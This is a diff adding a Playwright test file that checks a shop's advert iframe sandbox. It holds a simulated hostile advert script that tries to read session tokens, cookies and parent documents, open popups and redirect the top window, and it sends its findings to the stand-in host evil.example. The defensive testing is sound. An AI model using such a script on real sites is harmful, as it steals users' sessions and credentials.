@@ -1,0 +1,128 @@
+import type { BrowserContext, Page } from '@playwright/test'
+import { startShop } from './testing/shop-process.ts'
+import { expect, test } from './testing/shop.ts'
+
+const TOKEN = 'the-token-of-whoever-is-signed-in'
+
+/**
+ * What a hostile advertiser would try: read what the browser keeps for the shop, reach the page around, and get out
+ * of the frame by a popup. Everything it learns is called home, so that a test sees what got out.
+ */
+const HOSTILE = `(() => {
+  const tell = (what) => {
+    document.body?.append('[' + what + ']')
+    fetch('https://evil.example/?' + encodeURIComponent(what)).catch(() => undefined)
+  }
+  const where = top === self ? 'top' : 'frame'
+  const attempt = (name, act) => {
+    try { tell(where + ' ' + name + ' ' + act()) } catch (error) { tell(where + ' ' + name + ' refused') }
+  }
+  attempt('origin', () => self.origin)
+  attempt('storage', () => localStorage.getItem('token'))
+  attempt('cookie', () => document.cookie)
+  attempt('database', () => String(indexedDB.open('x')).slice(0, 0) + 'asked')
+  attempt('parent', () => parent === self ? 'none' : parent.document.title)
+  attempt('opener', () => opener === null ? 'none' : opener.document.title)
+  if (where === 'frame') {
+    attempt('top navigation', () => { top.location.href = 'https://evil.example/gone' })
+    addEventListener('click', () => {
+      attempt('popup of itself', () => Boolean(open(location.href)))
+      attempt('blank popup', () => {
+        const blank = open('about:blank')
+        blank.document.write('<script>try{opener.postMessage("blank "+localStorage.getItem("token"),"*")}catch{opener.postMessage("blank refused","*")}<\\/script>')
+      })
+      attempt('popup of the shop', () => {
+        const shop = open('/login')
+        setTimeout(() => attempt('shop in a popup', () => shop.localStorage.getItem('token')), 1500)
+      })
+      attempt('popup of the advertiser', () => Boolean(open('https://evil.example/landing')))
+      attempt('top navigation by click', () => { top.location.href = 'https://evil.example/gone' })
+    })
+    addEventListener('message', ({ data }) => tell('message ' + data))
+  }
+  window.adsbygoogle = { push() {} }
+})()`
+
+/** The advertiser's page in its own window: it may be there, but not lead the shop's page away. */
+const LANDING = `<script>
+for (const target of ['opener', 'opener.top', 'opener.parent'])
+  try { new Function('return ' + target)().location = 'https://evil.example/gone' } catch {}
+</script>evil`
+
+/** Plays the hostile script wherever the advertiser's would be loaded; returns what it called home. */
+async function playHostile(context: BrowserContext): Promise<string[]> {
+  const told: string[] = []
+  await context.route('https://pagead2.googlesyndication.com/**', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'access-control-allow-origin': '*' },
+      body: HOSTILE,
+    }),
+  )
+  await context.route('https://evil.example/**', (route) => {
+    told.push(decodeURIComponent(new URL(route.request().url()).search.slice(1)))
+    return route.fulfill({
+      headers: { 'access-control-allow-origin': '*' },
+      contentType: 'text/html',
+      body: LANDING,
+    })
+  })
+  return told
+}
+
+/** Somebody who is signed in and has accepted cookies. */
+async function signedIn(page: Page, url: string): Promise<void> {
+  await page.goto(`${url}/login`)
+  await page.evaluate((token) => {
+    localStorage.setItem('token', token)
+    localStorage.setItem('cookieConsent', `accepted ${Date.now() - 1000}`)
+  }, TOKEN)
+}
+
+test.describe('a hostile advert', () => {
+  test.skip(({ isMobile }) => isMobile, 'There are no adverts on a phone.')
+  test.use({ viewport: { width: 1680, height: 900 } })
+
+  test('gets neither out of its frame nor at what the browser keeps for the shop', async ({
+    page,
+    context,
+    preparedData,
+  }) => {
+    const shop = await startShop({ copyOf: preparedData, env: { ADSENSE_CLIENT: 'ca-pub-1234567890' } })
+    const told = await playHostile(context)
+    await signedIn(page, shop.url)
+    await page.goto(`${shop.url}/guide-achat`)
+    await expect.poll(() => told).toContain('frame origin null')
+    await page.frameLocator('iframe').first().locator('body').click()
+    await expect.poll(() => told).toContain('frame popup of itself true')
+    await expect.poll(() => told).toContain('frame shop in a popup refused')
+    const popups = context.pages().filter((other) => other !== page)
+    for (const popup of popups) await popup.waitForLoadState()
+
+    expect(page.url()).toBe(`${shop.url}/guide-achat`)
+    for (const attempt of ['storage', 'cookie', 'database', 'parent', 'top navigation'])
+      expect(told).toContain(`frame ${attempt} refused`)
+    // A document of an advert that stands in no frame runs nothing at all.
+    expect(told.filter((line) => line.startsWith('top '))).toEqual([])
+    expect(told.join()).not.toContain(TOKEN)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    for (const popup of popups) expect(await popup.locator('body').innerText()).not.toContain('[')
+    await shop.stop()
+  })
+
+  test('that a person is linked to shows nothing and runs nothing', async ({
+    page,
+    context,
+    preparedData,
+  }) => {
+    const shop = await startShop({ copyOf: preparedData, env: { ADSENSE_CLIENT: 'ca-pub-1234567890' } })
+    const told = await playHostile(context)
+    await signedIn(page, shop.url)
+    const answer = await page.goto(`${shop.url}/ads/slot?place=left`)
+    await page.waitForLoadState('networkidle')
+    expect(answer?.headers()['content-security-policy']).toMatch(/(^|; )sandbox(;|$)/)
+    await expect(page.locator('script')).toHaveCount(0)
+    expect(told).toEqual([])
+    await shop.stop()
+  })
+})
